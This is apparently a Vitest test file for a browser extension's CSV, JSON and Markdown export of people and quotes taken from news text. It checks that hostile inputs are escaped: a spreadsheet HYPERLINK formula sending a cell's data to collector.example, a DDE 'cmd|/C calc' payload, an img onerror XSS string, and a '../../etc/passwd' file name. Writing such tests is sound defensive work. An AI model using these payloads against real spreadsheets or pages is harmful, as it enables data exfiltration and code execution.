import { describe, expect, it } from "vitest";
import { csvField, exportAs, fileName, mdInline, toCsv, toJson, toMarkdown, CSV_HEADER } from "../../../src/popup/export";
import { fixture } from "./fixture";

/** A strict RFC 4180 reader, written here so the test does not trust the writer's own rules. */
function parseCsv(s: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < s.length; i++) {
    const c = s[i]!;
    if (quoted) {
      if (c !== '"') field += c;
      else if (s[i + 1] === '"') {
        field += '"';
        i++;
      } else quoted = false;
    } else if (c === '"') {
      if (field !== "") throw new Error(`quote inside an unquoted field at ${i}`);
      quoted = true;
    } else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\r" && s[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else if (c === "\n" || c === "\r") {
      throw new Error(`bare line break outside quotes at ${i}`);
    } else field += c;
  }
  if (quoted) throw new Error("unterminated quoted field");
  if (field !== "" || row.length) throw new Error("last record lacks CRLF");
  return rows;
}

describe("CSV export", () => {
  it("quotes fields holding commas, quotes or line breaks, and doubles inner quotes", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("cr\r")).toBe('"cr\r"');
    expect(csvField(null)).toBe("");
    expect(csvField(3)).toBe("3");
  });

  it("a hostile page's text cannot become a spreadsheet formula: it opens as the text itself", () => {
    const a = fixture();
    const formula = '=HYPERLINK("https://collector.example/?d="&C2,"Source")';
    const hostile = {
      ...a,
      people: [{ ...a.people[0]!, name: "@SUM(1+1)*cmd|' /C calc'!A0", role: "+1 555 0100" }, ...a.people.slice(1)],
      quotes: [{ ...a.quotes[0]!, text: formula }, { ...a.quotes[1]!, text: "\t=1+1" }, ...a.quotes.slice(2)],
    };
    const rows = parseCsv(toCsv(hostile));
    const col = (name: (typeof CSV_HEADER)[number]) => CSV_HEADER.indexOf(name);
    const cells = rows.slice(1).flat();
    // no cell a spreadsheet would evaluate
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    const quotes = rows.filter((r) => r[0] === "quote");
    expect(quotes[0]![col("text")]).toBe(`'${formula}`);
    expect(quotes[1]![col("text")]).toBe("'\t=1+1");
    const person = rows.find((r) => r[0] === "person" && r[col("name")]!.includes("SUM"))!;
    expect([person[col("name")], person[col("role")]]).toEqual(["'@SUM(1+1)*cmd|' /C calc'!A0", "'+1 555 0100"]);
    // counts and offsets are numbers, written as they are
    expect(csvField(-1)).toBe("-1");
  });

  it("round-trips every person, entity and quote through a strict RFC 4180 parser", () => {
    const a = fixture();
    const rows = parseCsv(toCsv(a));
    expect(rows[0]).toEqual([...CSV_HEADER]);
    for (const r of rows) expect(r).toHaveLength(CSV_HEADER.length);
    const col = (name: (typeof CSV_HEADER)[number]) => CSV_HEADER.indexOf(name);
    const people = rows.filter((r) => r[0] === "person");
    expect(people.map((r) => r[col("name")])).toEqual(["Vladimir Putin", "Christopher Wray"]);
    expect(people[0]![col("role")]).toBe("Russian President");
    expect(people[0]![col("mentions")]).toBe(String(a.people[0]!.mentions.length));
    expect(people[0]![col("quotes")]).toBe("2");
    const quotes = rows.filter((r) => r[0] === "quote");
    // the text with commas, doubled quotes and a newline comes back byte for byte
    expect(quotes.map((r) => r[col("text")])).toEqual(a.quotes.map((q) => q.text));
    expect(quotes.map((r) => r[col("speaker")])).toEqual(["Vladimir Putin", "Vladimir Putin", ""]);
    expect(quotes.map((r) => Number(r[col("start")]))).toEqual(a.quotes.map((q) => q.start));
    expect(rows.filter((r) => r[0] === "organization").map((r) => r[col("name")])).toEqual(["Kremlin"]);
    expect(rows.filter((r) => r[0] === "place").map((r) => r[col("role")])).toEqual(["capital"]);
  });
});

describe("JSON export", () => {
  it("is the Analysis contract exactly: version 1, and every quote's start/end index its text", () => {
    const a = fixture();
    const back = JSON.parse(toJson(a));
    expect(back).toEqual(a);
    expect(back.version).toBe(1);
    for (const q of back.quotes) expect(back.text.slice(q.start, q.end)).toBe(q.text);
    for (const p of back.people) for (const m of p.mentions) expect(p.aliases).toContain(back.text.slice(m.start, m.end));
  });

  it("is what exportAs gives for json", () => {
    const a = fixture();
    expect(exportAs("json", a)).toBe(toJson(a));
  });
});

describe("Markdown export", () => {
  it("lists the cast as a table by prominence and every quote with its speaker", () => {
    const a = fixture();
    const [putin, wray] = a.people;
    const md = toMarkdown(a);
    const lines = md.split("\n");
    const table = lines.filter((l) => l.startsWith("| ") && !l.startsWith("| Name") && !l.startsWith("| ---"));
    expect(table).toEqual([
      `| Vladimir Putin | Russian President | ${putin!.mentions.length} | 2 |`,
      `| Christopher Wray | FBI Director | ${wray!.mentions.length} | 0 |`,
    ]);
    expect(md).toContain("**Unattributed:**");
    // a quote spanning two lines stays inside one blockquote
    expect(md).toContain("> we share values, with commas, and \"\"quotes\"\"\n> across lines");
  });

  it("names a described speaker as the popup does ('the ministry said'), else 'Unattributed'", () => {
    const a = fixture();
    a.text += " “Prices will rise for everyone,” the ministry said.";
    const at = (s: string) => ({ start: a.text.lastIndexOf(s), end: a.text.lastIndexOf(s) + s.length });
    a.quotes.push({ ...at("Prices will rise for everyone,"), text: "Prices will rise for everyone,", speaker: null, cue: at("the ministry") });
    const md = toMarkdown(a);
    expect(md).toContain("**the ministry:**\n\n> Prices will rise for everyone,");
    expect(md).toContain("**Unattributed:**");
  });

  it("escapes what Markdown would read as HTML, emphasis or a table cell break", () => {
    const md = toMarkdown(fixture());
    expect(md).not.toMatch(/(^|[^\\])</m);
    expect(md).toContain("\\<img src=x onerror=alert(1)\\>");
    expect(md.split("\n")[0]).toBe('# Putin, "Wray" \\& \\<b\\>friends\\</b\\>');
    expect(mdInline("a|b*c_d`e")).toBe("a\\|b\\*c\\_d\\`e");
  });
});

describe("file names", () => {
  it("are a safe slug of the title with the format's extension", () => {
    expect(fileName('Putin, "Wray" & <b>friends</b>', "csv")).toBe("putin-wray-b-friends-b-cast.csv");
    expect(fileName("Élysée: ../../etc/passwd", "json")).toBe("elysee-etc-passwd-cast.json");
    expect(fileName("", "markdown")).toBe("dramatis-cast.md");
  });
});
